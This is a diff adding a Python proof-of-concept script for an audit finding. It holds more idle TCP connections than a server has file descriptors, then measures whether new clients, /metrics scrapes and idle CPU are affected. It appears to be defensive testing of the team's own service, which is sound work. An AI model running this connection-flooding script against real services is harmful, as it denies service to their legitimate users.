@@ -1,0 +1,43 @@
+"""Finding 5: more idle TCP connections than the server has descriptors (it runs with a soft
+limit of 1024), then a new client, a scrape of /metrics and the server's CPU while they idle."""
+
+import select
+import socket
+import time
+
+from abuse import Attack, Client, arguments, cpu_seconds, log, raise_descriptor_limit, tcp_address
+from metrics_http import scrape
+
+options = arguments(lambda parser: parser.add_argument("--connections", type=int, default=1100))
+raise_descriptor_limit(options.connections + 512)
+attack = Attack(options)
+address = tcp_address(options.endpoint)
+held = []
+for _ in range(options.connections):
+    # Non-blocking: once the server stops accepting, connects wait in its backlog or in SYN
+    # retries, and must not cost this script a timeout each.
+    connection = socket.socket()
+    connection.setblocking(False)
+    connection.connect_ex(address)
+    held.append(connection)
+time.sleep(1.0)
+poller = select.poll()
+for connection in held:
+    poller.register(connection, select.POLLOUT)
+connected = sum(1 for _, events in poller.poll(0) if events & select.POLLOUT and not events & (select.POLLERR | select.POLLHUP))
+log(f"holding {len(held)} idle connection attempts, {connected} connected")
+time.sleep(1.0)
+
+client = Client(attack.context, options.endpoint)
+reply, waited = client.call_json("catalog", {"op": "list_categories"}, timeout=2.0)
+client.close()
+scraped, scrape_seconds = scrape(options.metrics_port, timeout=3.0)
+before = cpu_seconds(options.pid)
+time.sleep(2.0)
+idle_cpu = (cpu_seconds(options.pid) - before) / 2.0
+log(f"new client: {'answered' if reply else 'no reply'} in {waited:.2f} s; /metrics: {scraped} in {scrape_seconds:.2f} s; CPU while idle {idle_cpu:.0%}")
+for connection in held:
+    connection.close()
+attack.finish(held=len(held), new_client_answered=reply is not None and reply.get("ok") is True,
+              new_client_ms=round(waited * 1000, 1), metrics_ok=scraped,
+              metrics_ms=round(scrape_seconds * 1000, 1), idle_cpu_fraction=round(idle_cpu, 3))
